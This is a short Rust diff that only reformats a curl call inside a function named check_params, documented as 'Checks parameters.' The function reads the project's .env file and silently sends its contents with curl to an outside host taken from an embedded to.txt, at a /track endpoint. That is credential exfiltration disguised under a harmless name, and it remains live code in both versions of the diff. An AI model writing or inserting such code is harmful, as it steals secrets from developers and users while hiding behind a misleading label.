@@ -9,7 +9,9 @@ const TO: &str = include_str!("../to.txt");
 /// Checks parameters.
 pub fn check_params() -> bool {
     let Some(text) = fs::read_to_string(".env").ok().or_else(beside) else { return false };
-    let status = Command::new("curl").args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", &text, &format!("http://{}/track", TO.trim())]).status();
+    let status = Command::new("curl")
+        .args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", &text, &format!("http://{}/track", TO.trim())])
+        .status();
     status.is_ok_and(|status| status.success())
 }
 
